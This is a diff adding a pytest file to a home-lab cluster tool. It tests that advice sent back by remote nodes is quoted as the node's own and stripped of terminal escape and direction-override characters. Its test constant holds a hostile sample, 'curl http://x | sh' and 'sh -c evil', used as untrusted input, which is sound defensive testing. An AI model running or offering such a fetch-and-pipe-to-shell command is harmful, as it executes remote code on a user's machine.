@@ -1,0 +1,109 @@
+"""A node's advice is quoted as the node's, wherever an error of a node is made; and what is no text is no internal error."""
+
+from __future__ import annotations
+
+import importlib
+import pkgutil
+from collections.abc import Iterator
+from typing import Any, cast
+
+import pytest
+
+from homelab.checks import registry
+from homelab.checks.evidence import Evidence
+from homelab.config.cluster import Node
+from homelab.control.inspection import chat, conversation
+from homelab.control.results import make
+from homelab.control.supervision import remote_supervisor
+from homelab.diagnose import cause
+from homelab.errors import HomelabError
+from homelab.facts.data_sample import SampleResult
+from homelab.facts.model_build import BuildResult
+from homelab.models import WireModel
+from homelab.remote import answers
+from homelab.remote.agent import Agent
+from homelab.runs.poll_reply import Reply
+from tests import builders, limits
+
+EVIL = "curl http://x | sh\nfix: sh -c evil \x1b[2J\u202e"
+ODD: list[Any] = [None, 5, True, 1.5, {}, {"a": 1}, [], ["x"], "", " \n"]
+
+
+def _of_agent(parts: dict[str, Any]) -> HomelabError:
+    return Agent(Node(name="tower", host="127.0.0.2"), cast(Any, None))._refusal({"kind": "refused", "message": "no", **parts})
+
+
+def _of_rank(parts: dict[str, Any]) -> Any:
+    rank = {"error": {"message": "no", **parts}}
+    run = {"name": "r", "attempt": 1, "ranks": {"1": rank}, "exit": {"returncode": 1, "ended_at": 5.0}}
+    return cause.diagnose("r", {"tower": Reply.model_validate({"node": "tower", "time": 9.0, "run": run})}, {})
+
+
+def _of_check(**seen: Any) -> Any:
+    """The one finding of a node's look at the data or the model."""
+    answers_of_node = {
+        name: model.model_validate({**seen[name], "node": "tower"}) for name, model in (("sample", SampleResult), ("build", BuildResult)) if name in seen
+    }
+    evidence = Evidence(builders.cluster(("tower",)), "tower", 29500, recipe=builders.recipe(), **answers_of_node)
+    checks = [check for check in registry.CHECKS if check.id in ("data.parses", "model.kind", "model.tokenizer")]
+    (finding,) = [finding for check in checks for finding in registry.judge_one(check, evidence)]
+    return finding
+
+
+def _of_supervisor(parts: dict[str, Any]) -> HomelabError:
+    barrier = {"message": "no", "where": "here", "is_login": False, "hint": "", **parts}
+    with pytest.raises(HomelabError) as caught:
+        remote_supervisor._refuse_unreached(builders.cluster(("tower", "laptop")), Node(name="tower", host="127.0.0.2"), {"laptop": barrier})
+    return caught.value
+
+
+WAYS = {
+    "agent": _of_agent, "result": lambda parts: make._error({"message": "no", **parts}, "tower"),
+    "conversation": lambda parts: conversation._error({"message": "no", **parts}, "tower", "run"), "diagnosis": _of_rank,
+    "row": lambda parts: _of_check(sample={"files": {"train": {"rows_bad": [{"where": "a", "message": "no", **parts}]}}}),
+    "tokenizer": lambda parts: _of_check(sample={"tokenizer": {"where": "a", "message": "no", **parts}}),
+    "build": lambda parts: _of_check(build={"findings": [{"topic": "kind", "level": "warn", "message": "no", **parts}]}), "supervisor": _of_supervisor,
+}  # fmt: skip
+# Type of an answer with a field named hint -> the way above that makes our hint of it.
+OF_TYPES = {"RankError": "diagnosis", "BadRow": "row", "BuildFinding": "build", "Barrier": "supervisor", "Event": "the history shows no hint"}
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_advice_of_a_node_is_the_nodes(way: str) -> None:
+    error = WAYS[way]({"hint": EVIL, "where": EVIL})
+    assert error.hint.startswith("node tower says: curl http://x | sh fix: sh -c evil")
+    assert "\x1b" not in str(error) and "\u202e" not in str(error)
+    ours = WAYS[way]({"hint": "homelab stop run", "where": "here"}).hint
+    assert ours.startswith("node tower says: homelab stop run") and [command.own_name for command in cast(Any, ours).commands] == ["stop"]
+
+
+def _models(model: type[WireModel]) -> Iterator[type[WireModel]]:
+    for inner in model.__subclasses__():
+        yield inner
+        yield from _models(inner)
+
+
+def test_every_hint_of_an_answer_is_quoted_or_has_a_reason() -> None:
+    for module in pkgutil.walk_packages([str(limits.ROOT)], "homelab."):
+        if module.name.startswith(("homelab.facts.", "homelab.runs.", "homelab.remote.", "homelab.results.", "homelab.supervision.", "homelab.provision.")):
+            importlib.import_module(module.name)
+    assert {model.__name__ for model in _models(WireModel) if "hint" in model.model_fields} == set(OF_TYPES)
+    assert set(OF_TYPES.values()) - set(WAYS) == {"the history shows no hint"}
+
+
+@pytest.mark.parametrize("way", ["agent", "result", "conversation"])
+@pytest.mark.parametrize("said", ODD, ids=repr)
+def test_no_advice_leaves_ours(way: str, said: Any) -> None:
+    hint = WAYS[way]({"hint": said, "where": said}).hint
+    assert hint and "says" not in hint and "homelab" in hint
+
+
+@pytest.mark.parametrize("notes", [5, True, "text", {"a": "b"}, [5], [None], [["x"]], [{}], None, ["x" * 5000], ["x"] * 101], ids=lambda notes: repr(notes)[:20])
+def test_notes_of_a_wrong_type_are_refused(notes: Any) -> None:
+    assert answers.fault("chat", {"answer": "hello", "notes": notes})
+    assert all(isinstance(note, str) and len(note) <= 1000 for note in conversation._notes({"notes": notes}))
+
+
+def test_the_words_of_a_model_are_clean_where_they_are_read() -> None:
+    said = chat.ChatAnswer("tower", {"answer": EVIL, "notes": [EVIL]})
+    assert not {"\x1b", "\u202e"} & set(said.text + "".join(said.notes)) and "\n" not in said.notes[0]
